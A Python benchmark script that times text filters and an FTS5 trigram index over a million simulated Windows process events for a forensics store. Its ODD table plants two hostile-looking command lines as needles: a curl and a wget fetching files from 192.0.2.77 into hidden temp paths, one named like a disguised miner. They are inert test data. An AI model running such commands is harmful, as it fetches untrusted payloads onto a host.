"""What a filter over a million processes costs: first rows and the whole count, as multiples of a plain look at the texts.

    python -P tests/benchmarks/filter_texts.py --processes 1000000 [--folder EMPTY_OR_MADE_BEFORE]

A third of the command lines are distinct, as on simulated hosts. Each line is asked three times in a workspace that is open, and
the fastest is told. "texts" is one LIKE over all distinct texts, which any filter without an index has to do. Beside it stands
what a trigram index (FTS5) over the same texts takes: seconds, bytes, and its share of the whole ingest.
"""

from __future__ import annotations

import sys
from collections.abc import Iterator
from pathlib import Path

sys.path[:0] = [str(Path(__file__).resolve().parents[2])]

import numpy as np

from engine.domain.records import ProcessEvent
from store.workspace import Workspace

CASE = "bench"
HOSTS = 50
ALIKE = 3
"""Processes for each distinct command line."""
START_US = 1_772_409_600_000_000
ODD = {7_919: "curl -s http://192.0.2.77/x.sh -o /dev/shm/.x", 65_537: "wget -q http://192.0.2.77/m -O /tmp/.cache/kswapd0"}
"""Every so manieth process has this command line."""


def events(count: int) -> Iterator[ProcessEvent]:
    """Families below a few roots of each host."""
    random = np.random.default_rng(1)
    last: list[list[int]] = [[] for _ in range(HOSTS)]
    for number in range(count):
        host = int(random.integers(HOSTS))
        line = last[host]
        parent = line[int(len(line) * random.random() ** 0.5)] if len(line) > 5 else None
        if len(line) < 3_000:
            line.append(number)
        text = next((text for every, text in ODD.items() if number % every == every - 1), "")
        alike = int(random.integers(max(count // ALIKE, 1)))
        yield ProcessEvent(
            kind="sysmon1", os="windows", host=f"HOST{host:02}", image=f"C:\\Apps\\tool{int(random.zipf(1.5)) % 300}.exe",
            time_us=START_US + number * 250_000, pid=4 * (number % 16_000), ppid=None, guid=f"guid-{number}",
            parent_guid=None if parent is None else f"guid-{parent}", user=f"CORP\\user{number % 40}", record_id=str(number),
            command_line=text or f'"C:\\Apps\\tool.exe" --config "C:\\ProgramData\\Apps\\settings-{alike}.xml" --mode {alike % 7}',
            position=number,
        )  # fmt: skip


def fill(workspace: Workspace, count: int) -> None:
    """Through the store's own ingest and the engine's own links."""
    from engine.jobs.ports.ingest import Batch
    from engine.lineage import chains, link

    store = workspace.ingest
    ticket = store.begin_source(CASE, "simulated", "a" * 64, 1, "ndjson")
    batch: list[ProcessEvent] = []
    for event in events(count):
        batch.append(event)
        if len(batch) == 10_000:
            store.append(ticket, Batch(batch, (), len(batch)))
            batch = []
    if batch:
        store.append(ticket, Batch(batch, (), len(batch)))
    store.finish_source(ticket)
    for host in store.unlinked_hosts(CASE):
        columns = store.load_host(host)
        lineage = link(columns)
        store.write_lineage(host, columns, lineage, chains(columns, lineage))
    store.finish_lineage(CASE)
